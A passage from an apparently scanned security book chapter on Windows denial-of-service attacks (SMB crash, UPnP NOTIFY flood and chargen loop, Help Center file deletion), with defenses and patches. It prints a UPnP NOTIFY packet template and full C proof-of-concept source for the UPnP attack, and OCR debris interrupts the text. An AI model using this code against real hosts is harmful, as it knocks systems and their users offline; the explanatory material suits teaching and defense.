13.1 Denial-of-Service Attacks

 <  Day Day Up  >

Computer attacks can take several forms, some of which include information gathering, local administrative access, remote access hacks, and, last but not least, denial-of-service attacks. While gaining root access to a server is typically the ultimate goal, there are still numerous reasons a hacker would want to simply take a server out of commission.

For example, what would be the result of an organization-wide cyberattack that caused all of thecompany's web servers to shut down? This type of attack is not only possible but is also easy to perform, since most organizations purchase large blocks of IP addresses and manage them internally. A hacker simply learns this range in order to systematically target the entire block.

In this section, we investigate two denial-of-service attacks that work in such a manner. The first attacks the Server Message Block protocol used by Windows machines, while the second targets the Universal Plug and Play service (a relatively modern feature of Windows operating systems).

13.1.1 SMB Attack

The Service Message Block (SMB) protocol was designed to provide a platform-independent method of requesting data from file services over a network. Also known as the Common Internet File System, this protocol is most often affiliated with the Windows family of operating systems, although others can use it. So far, only Windows has been found vulnerable to the following attack.

SMB operates in the Application/Presentation layers of the OSI model (depicted in Figure 13-1). Because it operates in such high layers , SMB can easily be used in almost any network. TCP/IP, IPX, NetBEUI, and other lesser-known protocols can all work with SMB packaged data.

Figure 13-1. OSI model depicting relationship of SMB and otherprotocols

SMB is a protocol used for sharing files, printers, and communication methods between computers. SMB operates as a client/server request/response type of service. In this example, we demonstrate it as used with TCP/IP, which is actually NetBIOS over TCP/IP (NBT).

While it is possible to operate Windows XP without allowing SMB requests to connect, this service is set up to run automatically under the default installation. Remote clients can check for SMB service availability by performing a port scan. Positive results include a reply from TCP port 139 and/or TCP port 445, depending on whether NetBIOS over TCP/IP (NBT) is enabled.

Older Windows operating systems use port 139 by default to accept incoming SMB requests. However, with the introduction of Windows 2000 and XP, port 445 is also used to allow Direct Host services to run. Additionally, this portcan be used in anonymous share attacks that provide a remote hacker with full access to a Windows box.

In this attack, the weakness is found in the SMB_COM_TRANSACTION command, which used to create functions by which the client and host communicate. In short, this command defines a "Function Code" that determines what type of service is requested by the client. These services are known as NetServEnum2, NetServEnum3, and NetShareEnum. To regulate the amount of information requested , the client uses parameters to send values to the server. Within these parameters are the "Max Param Count" and "Max Data Count" fields, which typically hold valid (nonzero) values. However, if these fields are set to "0", the code in the DLL file responsible for handling this information incorrectly manages the server's memory. As a result, the system goes into an unstable mode and crashes.

While all this information can be useful in understanding and manually performing a DoS attack on SMB, several proof-of-concept programs have been developed to illustrate how it works and test personal networks. One program that illustrates the effectiveness of the SMB attack is smbnuke (written by Frederic Deletang). As seen in Figure 13-2, the program crashes a Windows XP machine with the simple command smbnuke address .

Figure 13-2. Windows XP blue screen of death after SMB attack

Figure 13-2 shows the screen of the targeted Windows XP box with the message posted by the infamous blue screen of death . Note that this screen only flashes for a couple of seconds before the system goes down for a reboot.This program is easily fetched online with a quick web search. To test your own Windows XP system, you will need to be running a Unix system, preferably FreeBSD or Linux (we tested this on Linux 2.4.18/i686 and FreeBSD 4.6.1-RELEASE-p10/i386). Figure 13-3 shows smbnuke successfully testing Windows XP.

Figure 13-3. smbnuke successfully testing Windows XP box

The code is available in uncompiled format. You will need to have a C compiler (e.g., GCC) on your system to create the executable file.

There are various ways to secure a system from the SMB DoS attack. The first method is to remove NetBIOS from any network card or modem connection. This eliminates the possibility of abusing NBT and removes the threat of an attack. To do this, access the properties of your connection and uninstall or unbind NetBIOS from TCP/IP. Disable file sharing and uninstall Client for Microsoft Networks.

Check with your ISP or LAN administrator before performing any of these actions. Breaking NetBIOS can cause some programs to malfunction.

The second method of defense is to install the patch from Microsoft, which is buried in Service Pack 1 (SP1). Note that Microsoft has not provided a fix for this outside of SP1 ”a service pack that also includes software that ensures your Windows XP license is valid. In other words, if you lose your key, you are hosed.Disabling Null connections also protects against anonymous attacks, but it does not protect against valid users. This is accomplished on Windows XP by updating the Local Security Policy and enabling "Network Access: Do not allow anonymous enumeration of SAM accounts" and "Network access: Do not allowanonymous enumeration of SAM accounts and shares." On Windows 2000, enable the "Additional restrictions for anonymous connection" option, and in Windows NT, update the registry key at HKEY_LOCAL_MACHINE\SYSTEM\CurrentControlSet\Control\LSA\restrictanonymous to equal "1".

Finally, shutting down the LAN manager service secures a server, but it also disables file and print services. This option is accessible via the Service icon in the Control Panel (under Adminstrative Tools).

13.1.2 Universal Plug and Play Attack

With the introduction of Windows Me, Microsoft included support for a new technology known as Universal Plug and Play (UPnP) in order to permit the use of smart devices that use the UPnP technology to automatically detect and connect with each other. When a UPnP device connects to a network, it sends out a NOTIFY signalto all other devices on the network, which simply tells the other devices that a new device is online and ready to be used. The NOTIFY signal includes a URL that can be used by other UPnP devices to determine what services the new device has to offer. All this is performed using the Simple Service Discovery Protocol (SSDP), the main formatting protocol for passing information using UPnP (http://www.upnp.org/download/draft_cai_ssdp_v1_03.tx).

In addition to the initial NOTIFY signal, UpnP-aware devices send out a signal over the network known as the M-SEARCH directive . This directive informs all UPnP devices that a new, aware device is on the network, which causes them to send back information about the services each of them has to offer.

While this particular technology is not in widespread use, it could theoretically set up an appliance network to control and regulate every electric device in a house, from toasters to refrigerators. It was not untilthe release of Windows XP, which enabled this feature by default, that it was discovered that the UPnP feature was vulnerable to several DoS attacks.

The core of the problem is the way which the ssdpsrv.exe file handles incoming requests. The following examples describe several methods of attacking the UPnP service.

The first method is to use an incidental attack that creates a series of rapid connections to the target. Incrementing the protocol, port, and file specified in the Location field makes the service unstable. Here's the format of a NOTIFY session used to do this:

 NOTIFY * HTTP/1.1 HOST: <TARGET IP>:1900 CACHE-CONTROL: max-age=10 LOCATION: http://IPADDRESS:PORT/.xml NT: urn:schemas-upnp-org:device:InternetGatewayDevice:1 NTS: ssdp:alive SERVER: HACKER/2001 UPnP/1.0 product/1.1 USN: uuid:HACKER

This method of attack can be altered to perform a distributed denial-of-service attack by abusing networking standards. To do this, the attacker has to substitute the Host target IPaddress with the network's broadcast address (e.g., and then update the Location field with the target. This causes all listening devices on the network to reply to the initial NOTIFY message (Location field), which floods the target computer with numerous replies.

An attacker could also cause a UPnP service to target itself and create a loop that eats up the host's resources. To accomplish this, the NOTIFY message is set to target a chargen service on a remotecomputer. The chargen service is a small program that sends a stream of characters to any computer that connects to it; when the UPnP service sends data to chargen, it immediately bounces the message back to the requesting computer. This triggers another message, creating a new reply. Eventually, the resources on the target computer fail.

This code is provided with permission from Gabriel Maggoiti as a proof of concept:

 /*   * WinME/XP UPNP D0S    *  * ./upnp_udp <remote_hostname><spooffed_host> <chargen_port>  *  * Authors:     Gabriel Maggiotti, Fernando Oubia  * Email:       gmaggiot@ciudad.com.ar, foubina@qb0x.net  * Webpage:     http://qb0x.net  */ #include <stdio.h> #include <string.h> #include <stdlib.h> #include <errno.h> #include <string.h> #include <netdb.h> #include <sys/types.h> #include <netinet/in.h> #include <sys/socket.h> #include <sys/wait.h> #include <unistd.h> #include <fcntl.h> #define MAX    1000 #define PORT    1900 char *str_replace(char *rep, char *orig, char *string) { int len=strlen(orig); char buf[MAX]=""; char *pt=strstr(string,orig); strncpy(buf,string, pt-string); strcat(buf,rep); strcat(buf,pt+strlen(orig)); strcpy(string,buf); return string; } /***/ int main(int argc,char *argv[]) {     int sockfd,i;     int numbytes;     int num_socks;     int addr_len;     char recive_buffer[MAX]="";     char send_buffer[MAX]=     "NOTIFY * HTTP/1.1\r\nHOST:\r\n"     "CACHE-CONTROL: max-age=1\r\nLOCATION:                      http://www.host.com:port/\r\n"     "NT: urn:schemas-upnp-org:device:InternetGatewayDevice:1\r\n"     "NTS: ssdp:alive\r\nSERVER: QB0X/201 UPnP/1.0 prouct/1.1\r\n"     "USN: uuid:QB0X\r\n\r\n\r\n";     char *aux=send_buffer;     struct hostent *he;     struct sockaddr_in their_addr;     if(argc!=4)     {         fprintf(stderr,"usage:%s <remote_hostname> "\             "<spooffed_host> <chargen_port>\n",argv[0]);         exit(1);     }aux=str_replace(argv[2],"www.host.com",send_buffer);     aux=str_replace(argv[3],"port",send_buffer);     if((he=gethostbyname(argv[1]))==NULL)     {         perror("gethostbyname");         exit(1);     }     if((sockfd=socket(AF_INET,SOCK_DGRAM,0)) == -1) {         perror("socket"); exit(1);     }     their_addr.sin_family=AF_INET;     their_addr.sin_port=htons(PORT);     their_addr.sin_addr=*((struct in_addr*)he->h_addr);     bzero(&(their_addr.sin_zero),8);     if((numbytes=sendto(sockfd,send_buffer,strlen                         (send_buffer),0,\     (struct sockaddr *)&their_addr,                  sizeof(struct sockaddr))) ==-1)     {         perror("send");         exit(0);     }     close(sockfd); return 0; }

Microsoft has released a patch to correct this vulnerability. Once it's installed, the UPnP is no longer vulnerable to this DoS attack. Visit http://windowsupdate.microsoft.com for security patches.

The UPnP DoS attack has also led to a remote access attack, discussed later in this chapter.

13.1.3 Help Center Attack

While the previous example illustrates one very effective method of denying use, there are many forms of DoS attacks that can have the same effect and in some cases can be moredamaging . By remotely crashing a computer using SMB attacks, the hacker can be disconnected from the remote computer and the attack ended.However, if an attacker were out to truly disrupt a computer user 's life, he would target the filesytem of the computer. The Help Center attack employs this approach.

With the introduction of Windows XP, Microsoft has incorporated a new Help Center program, as illustrated in Figure 13-4. The Help and Support link, which is accessed from the Start menu, opens a window depicting a new, cartoonish screen that provides users with information about the operating system and the many tools and programs that are included with it. As Microsoft puts it, "Help and Support Center is the unified Help introduced by Windows XP. It is an expanded version of the Help Center application (introduced in Windows Millennium Edition), providing a wider breadth of content and more features to access that content." Who would have guessed that one of these features would be able to delete your files ?

Figure 13-4. Windows XP Help Center

The improved Help Center provides a wealth of information, but it's much more than that. In the Help Center, a user can perform hardware and software tests, configure operating system tools, and even send out a request for assistance. However, a sophisticated tool like this requires a highlycomplex system of web pages and XML files that all work together to provide service. One of these files is uplddrvinfo.htm .

This file, which is typically located in the c:\windows\PCHEALTH\HELPCTR\System\DFS\ directory, appears to be used in the processingof information relating to hardware and drivers. There are other files included in the HELPCTR folder that permit various other activities; however, it is in the uplddrvinfo.htm file that we find the most dangerous of problems.

The file in question includes several lines of code that check for the existence of a file location that is sent to uplddrvinfo.htm as a parameter. The program uses this parameter to make a file object, which is then deleted. The following is the problematic code taken from uplddrvinfo.htm .var sFile = unescape(sThisURL.substring(sThisURL.indexOf('?') + 1)); sFile = sFile.replace('file://', '').replace(/\&.*/,''); var oFSO = new ActiveXObject('Scripting.FileSystemObject'); try{ oFSO.DeleteFile(sFile);}

Here's an explanation of each line of code to clarify this example:

  1. The first line assigns the value of the parameter to a variable named sFile . At this time, the value is only a string and is not actually linked to the filesystem.

  2. Before the string can be used, it must first be parsed for any irrelevant data. This line removes any of the characters ( , / , & , ., * , or ) from the string.

  3. A new filesystem object is created and assigned the value oFSO . This object is linked to mini-programs that can perform reading, writing, deleting, and other file- related activities.

  4. At this point, the script enters a part of the program that is written to provide error correction. The try term indicates that the next lines of code are to be tried and monitored for errors as they execute.

  5. The last line performs file deletion. Using the string held in the sFile variable, the oFSO object now has a target on which to perform its operation ”in this case, a deletion.

As the explanation illustrates, this particular code deletes files very efficiently . But could someone abuse these few lines of code to cause chaos on a victim's computer? The answer is found in the Help CenterProtocol (HCP).

The HCP is a recent addition to the Windows family of operating systems; it allows access to the Help Center application from a web browser, email, or any other form of media that allows hyperlinks . In other words, HCPis very similar to HTM , with the addition of the program that is executed when the corresponding file is called.

